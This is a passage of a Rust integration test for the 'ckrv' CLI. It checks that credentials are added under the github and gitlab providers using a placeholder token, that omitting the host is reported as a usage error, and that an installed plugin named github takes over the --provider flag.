    const TOKEN: &str = "ghp_seedWordsToken0123456789abcdef";
    let env = Env::start().await;
    let home = env.home.path();
    env.login("dev@example.com").await;

    // The seed quickstart's words, then the same with --host.
    for (name, args) in [
        ("github-work", ["--provider", "github"]),
        ("gitlab-work", ["--host", "gitlab"]),
    ] {
        let mut add = vec!["cloud", "credentials", "add", "--name", name];
        add.extend(args);
        let out = env.run_with_stdin(home, &add, TOKEN).await;
        assert!(
            out.status.success(),
            "{add:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            format!("▌ ✔ Credential '{name}' saved")
        );
    }
    let listed: serde_json::Value = serde_json::from_str(
        &env.ok(home, &["cloud", "credentials", "list", "--json"])
            .await,
    )
    .unwrap();
    let hosts: Vec<(&str, &str)> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["name"].as_str().unwrap(), c["provider"].as_str().unwrap()))
        .collect();
    assert!(hosts.contains(&("github-work", "github")), "{listed}");
    assert!(hosts.contains(&("gitlab-work", "gitlab")), "{listed}");

    // No host at all is a usage error that lists the hosts.
    let out = env
        .run_with_stdin(home, &["cloud", "credentials", "add", "--name", "x"], TOKEN)
        .await;
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--host") && err.contains("github, gitlab, bitbucket, generic"),
        "{err}"
    );

    // Once a provider plugin called github is installed, --provider github means that plugin.
    let plugin = std::path::Path::new(env!("CARGO_BIN_EXE_ckrv"))
        .parent()
        .unwrap()
        .join("wasm-guests/wasm32-wasip2/release/ckrv_plugin_chakravarti.wasm");
    env.ok(
        home,
        &[
            "plugin",
            "install",
            plugin.to_str().unwrap(),
            "--name",
            "github",
            "--yes",
        ],
    )
    .await;
    let out = env
        .run_with_stdin(
            home,
            &[
                "--provider",
                "github",
                "cloud",
                "credentials",
                "add",
                "--name",
                "y",
            ],
            TOKEN,
        )
        .await;
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("--host"));
}
